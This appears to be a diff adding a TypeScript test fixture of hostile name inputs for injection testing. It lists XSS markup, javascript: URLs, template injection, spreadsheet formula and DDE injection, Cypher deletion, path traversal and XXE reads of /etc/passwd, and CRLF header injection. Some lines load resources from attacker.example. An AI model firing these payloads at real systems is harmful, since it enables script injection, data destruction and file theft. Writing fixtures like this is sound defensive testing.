@@ -1,0 +1,97 @@
+/** Names that want to be more than names: markup, scripts, formulas, paths, control characters. */
+
+const MARKUP = [
+  "<script>alert(1)</script>",
+  "<script src=//attacker.example/x.js></script>",
+  "</script><script>alert(2)</script>",
+  "<img src=x onerror=alert(3)>",
+  "<img/src=x/onerror=alert(4)>",
+  "<svg onload=alert(5)>",
+  "<svg><script>alert(6)</script></svg>",
+  "<svg><animate onbegin=alert(7) attributeName=x dur=1s>",
+  "<iframe src=javascript:alert(8)></iframe>",
+  "<iframe srcdoc='<script>alert(9)</script>'>",
+  "<object data=javascript:alert(10)>",
+  "<embed src=javascript:alert(11)>",
+  "<body onload=alert(12)>",
+  "<details open ontoggle=alert(13)>",
+  "<video><source onerror=alert(14)>",
+  "<math><mtext></mtext><script>alert(15)</script></math>",
+  "<a href=javascript:alert(16)>点这里</a>",
+  "<form action=javascript:alert(17)><button>确定</button></form>",
+  "<input autofocus onfocus=alert(18)>",
+  "<style>*{display:none}</style>",
+  "<link rel=stylesheet href=//attacker.example/x.css>",
+  "<meta http-equiv=refresh content='0;url=//attacker.example'>",
+  "<base href=//attacker.example/>",
+  "<template><img src=x onerror=alert(19)></template>",
+  "<noscript><p title='</noscript><img src=x onerror=alert(20)>'>",
+  "<!--><img src=x onerror=alert(21)>-->",
+  "--><img src=x onerror=alert(22)><!--",
+  "]]><script>alert(23)</script>",
+  "<![CDATA[<script>alert(24)</script>]]>",
+  '"><img src=x onerror=alert(25)>',
+  "'><img src=x onerror=alert(26)>",
+  '" onmouseover="alert(27)',
+  "' onfocus='alert(28)' autofocus='",
+  "`onmouseover=alert(29)`",
+  "&lt;script&gt;alert(30)&lt;/script&gt;",
+  "&#60;img src=x onerror=alert(31)&#62;",
+  "\u003cimg src=x onerror=alert(32)\u003e",
+  "<ScRiPt>alert(33)</ScRiPt>",
+  "<scr<script>ipt>alert(34)</scr</script>ipt>",
+  "＜script＞alert(35)＜/script＞",
+] as const;
+
+const SCRIPTS = [
+  "javascript:alert(36)",
+  "JaVaScRiPt:alert(37)",
+  "java\tscript:alert(38)",
+  "data:text/html,<script>alert(39)</script>",
+  "vbscript:msgbox(40)",
+  "${alert(41)}",
+  "{{constructor.constructor('alert(42)')()}}",
+  "$t(app.name) {{name}}",
+  "'-alert(43)-'",
+  "\\';alert(44);//",
+  "__proto__",
+  "constructor",
+] as const;
+
+/** What a spreadsheet takes for a formula. */
+const FORMULAS = [
+  '=HYPERLINK("//attacker.example","点这里")',
+  "=cmd|'/c calc'!A1",
+  "=1+1",
+  "+1+1",
+  "-2+3",
+  "@SUM(1)",
+  "\t=1+1",
+  "\r=1+1",
+  "＝1+1",
+  "＋1",
+  "＠SUM(1)",
+  '"=1+1',
+  "甲,=1+1",
+  '甲";=1+1;"',
+] as const;
+
+const OTHERS = [
+  "'}) DETACH DELETE n //",
+  "\\' OR 1=1 RETURN 1 //",
+  "` SET n.name = 1 //",
+  "../../../etc/passwd",
+  "..\\..\\windows\\win.ini",
+  "%2e%2e%2fetc%2fpasswd",
+  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
+  "<?xml-stylesheet href='//attacker.example/x.xsl'?>",
+  "\r\nSet-Cookie: a=b",
+  "甲\u202e乙\u2066丙",
+  "甲\u0000\u0008\u001b[31m乙",
+  "Z\u0351\u0352a\u0353lgo",
+] as const;
+
+/** All of them, numbered at the end so that no two are names of one thing. */
+export const PAYLOADS: readonly string[] = [...MARKUP, ...SCRIPTS, ...FORMULAS, ...OTHERS].map(
+  (payload, at) => `${payload} ${at}`,
+);
